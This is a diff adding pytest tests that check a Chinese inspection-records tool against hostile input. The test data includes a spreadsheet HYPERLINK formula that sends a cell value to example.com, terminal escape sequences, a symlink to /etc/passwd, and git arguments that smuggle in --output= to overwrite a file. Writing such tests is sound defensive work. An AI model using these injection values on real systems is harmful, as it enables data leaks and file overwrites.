@@ -1,0 +1,224 @@
+"""Hostile and clumsy input: nothing runs, nothing leaks, nothing is overwritten, nothing hangs."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import os
+import stat
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+
+from tests.helpers import RunCli, build_file_tree, git
+
+VISIT = """id: 20200302-ppp
+date: 2020-03-02
+team: A
+units: DJ-01
+methods: [综合督查, 明查, 常规检查]
+findings:
+  - focus: 封闭管理
+    severity: 一般
+    description: {description}
+    deadline: 3个工作日
+"""
+
+
+def county(root: Path, description: str = "北门夜间无人值守") -> Path:
+    return build_file_tree(
+        root,
+        {
+            "ducha.yaml": "",
+            "units.yaml": "units:\n  - {id: DJ-01, name: 东街社区, district: 东城区, kind: 城市社区}\n",
+            "teams.yaml": "teams:\n  - {id: A, name: 第一组, leader: 张组长}\n",
+            "visits/2020/03/20200302-ppp.yaml": VISIT.format(description=description),
+        },
+    )
+
+
+def problems(run_cli: RunCli, root: Path) -> list[str]:
+    out = run_cli("-C", str(root), "validate", "-f", "json")
+    return [
+        f"{p['path']}:{p['line']}:{p['column']} {p['rule']}"
+        for p in json.loads(out.stdout)["problems"]
+    ]
+
+
+@pytest.mark.parametrize("character", ["\x00", "\x1b", "\x7f", "\x85\x9b", "\ufffe"])
+def test_a_forbidden_character_in_a_file_is_an_error_where_it_stands(
+    run_cli: RunCli, tmp_path: Path, character: str
+) -> None:
+    root = county(tmp_path, f"北门{character}值守")
+    found = problems(run_cli, root)
+    if character == "\x85\x9b":  # NEL is a line break YAML allows; U+009B is not allowed
+        assert found == ["visits/2020/03/20200302-ppp.yaml:9:21 forbidden-character"]
+    else:
+        assert found == ["visits/2020/03/20200302-ppp.yaml:9:20 forbidden-character"]
+
+
+def test_both_readers_say_the_same_of_every_forbidden_character() -> None:
+    from ducha.store.loader import load_text
+
+    for code in [*range(0x20), *range(0x7F, 0xA0), 0xFFFE, 0xFFFF]:
+        if chr(code) in "\t\n\r\x85":
+            continue
+        text = f"id: a\nsummary: x{chr(code)}y\n"
+        fast = load_text(text, "t.yaml", positions=False).issues
+        full = load_text(text, "t.yaml").issues
+        assert fast == full and [i.rule for i in fast] == ["forbidden-character"], hex(code)
+
+
+def test_control_characters_written_as_yaml_escapes_are_reported(
+    run_cli: RunCli, tmp_path: Path
+) -> None:
+    root = county(tmp_path, '"擦除\\e[2K\\e]0;标题\\a"')
+    assert problems(run_cli, root) == ["visits/2020/03/20200302-ppp.yaml:9:18 control-character"]
+
+
+def test_terminal_output_shows_control_characters_as_symbols(run_cli: RunCli, repo: Path) -> None:
+    root = county(repo / "records")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "初始\x1b[2K\x1b]0;窗口标题\x07", "--no-gpg-sign")
+    result = run_cli("-C", str(root), "log", "20200302-ppp/1")
+    assert "\x1b" not in result.output and "\x07" not in result.output
+    assert "初始␛[2K␛]0;窗口标题␇" in result.output
+    colour = run_cli("-C", str(root), "--color", "always", "log", "20200302-ppp/1")
+    assert "\x1b[2K" not in colour.output
+
+
+def test_a_description_that_looks_like_a_formula_stays_text_in_every_spreadsheet(
+    run_cli: RunCli, tmp_path: Path
+) -> None:
+    from openpyxl import load_workbook
+
+    formula = '\'=HYPERLINK("http://example.com/?x="&A1,"点击")\''
+    root = county(tmp_path, formula)
+    assert problems(run_cli, root) == []
+    out = run_cli("-C", str(root), "export", "-f", "csv", "--as-of", "2020-03-20").stdout
+    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"))))
+    column = rows[0].index("问题描述")
+    assert rows[1][column] == '\'=HYPERLINK("http://example.com/?x="&A1,"点击")'
+    overdue = run_cli("-C", str(root), "overdue", "-f", "csv", "--as-of", "2020-03-20").stdout
+    assert ",\"'=HYPERLINK(" in overdue
+    target = tmp_path / "out.xlsx"
+    written = run_cli(
+        "-C", str(root), "export", "-f", "xlsx", "--as-of", "2020-03-20", "-o", str(target)
+    )
+    assert written.exit_code == 0
+    sheet = load_workbook(target).active
+    assert sheet is not None
+    cells = [c for row in sheet.iter_rows() for c in row if str(c.value).startswith("=HYPER")]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_outputs_never_replace_a_file_unasked_nor_the_records_nor_a_device(
+    run_cli: RunCli, tmp_path: Path
+) -> None:
+    root = county(tmp_path / "r")
+    existing = tmp_path / "old.md"
+    existing.write_text("上周写好的公文", encoding="utf-8")
+    link = tmp_path / "link.md"
+    link.symlink_to(root / "units.yaml")
+    memo = ["-C", str(root), "report", "bulletin", "-f", "md", "--as-of", "2020-03-20"]
+    for target, words in (
+        (existing, "--force"),
+        (link, "符号链接"),
+        (root / "units.yaml", "记录之中"),
+        (root / "visits/2020/03/20200302-ppp.yaml", "记录之中"),
+        (Path("/dev/null"), "不是普通文件"),
+    ):
+        result = run_cli(*memo, "-o", str(target), "--force" if words != "--force" else "-q")
+        if words == "--force":
+            result = run_cli(*memo, "-o", str(target))
+        assert result.exit_code == 1 and words in result.output, (target, result.output)
+    assert existing.read_text(encoding="utf-8") == "上周写好的公文"
+    assert "DJ-01" in (root / "units.yaml").read_text(encoding="utf-8")
+    ics = tmp_path / "plan.ics"
+    ics.write_text("BEGIN:VCALENDAR\n", encoding="utf-8")
+    plan = run_cli("-C", str(root), "schedule", "--from", "2020-03-09", "--ics", str(ics))
+    assert plan.exit_code == 1 and ics.read_text(encoding="utf-8") == "BEGIN:VCALENDAR\n"
+
+
+def test_a_replaced_file_keeps_its_mode_and_a_new_one_follows_the_umask(tmp_path: Path) -> None:
+    from ducha.store.writing import replace_bytes
+
+    kept = tmp_path / "kept.yaml"
+    kept.write_text("a: 1\n", encoding="utf-8")
+    kept.chmod(0o640)
+    replace_bytes(kept, b"a: 2\n")
+    assert stat.S_IMODE(kept.stat().st_mode) == 0o640
+    old = os.umask(0o022)
+    try:
+        replace_bytes(tmp_path / "new.yaml", b"a: 1\n")
+    finally:
+        os.umask(old)
+    assert stat.S_IMODE((tmp_path / "new.yaml").stat().st_mode) == 0o644
+
+
+def test_fmt_leaves_a_file_edited_while_it_ran(tmp_path: Path) -> None:
+    from ducha.store.config import load_settings
+    from ducha.store.fmt import format_files, write
+
+    root = county(tmp_path)
+    file = root / "visits/2020/03/20200302-ppp.yaml"
+    file.write_text(file.read_text(encoding="utf-8").replace("severity: 一般", "severity: minor"))
+    settings = load_settings(root)
+    [formatted] = format_files(settings, ["visits/2020/03/20200302-ppp.yaml"])
+    assert formatted.changed
+    file.write_text(formatted.before + "# 刚加的批注\n", encoding="utf-8")  # a clerk saves
+    assert write(settings, formatted) is False
+    assert file.read_text(encoding="utf-8").endswith("# 刚加的批注\n")
+
+
+def test_two_clerks_adding_units_at_once_lose_none(tmp_path: Path) -> None:
+    root = county(tmp_path)
+    ducha = [sys.executable, "-m", "ducha", "-C", str(root), "new", "unit"]
+    unit = ["--district", "东城区", "--kind", "企业"]
+    processes = [
+        subprocess.Popen(
+            [*ducha, "--id", f"N-{i:02d}", "--name", f"新单位{i}", *unit],
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.PIPE,
+        )
+        for i in range(12)
+    ]
+    for process in processes:
+        _, err = process.communicate(timeout=60)
+        assert process.returncode == 0, err
+    text = (root / "units.yaml").read_text(encoding="utf-8")
+    assert all(f"N-{i:02d}" in text for i in range(12))
+
+
+def test_a_fifo_named_like_a_visit_is_reported_not_waited_on(tmp_path: Path) -> None:
+    root = county(tmp_path)
+    os.mkfifo(root / "visits/2020/03/20200303-fifo.yaml")
+    (root / "visits/2020/03/20200304-lnk.yaml").symlink_to("/etc/passwd")
+    done = subprocess.run(
+        [sys.executable, "-m", "ducha", "-C", str(root), "validate"],
+        capture_output=True,
+        text=True,
+        timeout=60,
+        check=False,
+    )
+    assert done.returncode == 1
+    assert "20200303-fifo.yaml:1:1: error" in done.stdout
+    assert "20200304-lnk.yaml:1:1: error" in done.stdout
+    assert "root:" not in done.stdout  # /etc/passwd was not read
+
+
+def test_a_revision_that_looks_like_an_option_never_reaches_git_as_one(
+    run_cli: RunCli, repo: Path
+) -> None:
+    root = county(repo / "records")
+    git(repo, "add", "-A")
+    git(repo, "commit", "-qm", "初始", "--no-gpg-sign")
+    victim = repo / "victim.txt"
+    victim.write_text("重要", encoding="utf-8")
+    for revision in (f"--output={victim}..HEAD", f"HEAD..--output={victim}", "A...B"):
+        result = run_cli("-C", str(root), "diff", "--", revision)
+        assert result.exit_code == 1, (revision, result.output)
+    assert victim.read_text(encoding="utf-8") == "重要"
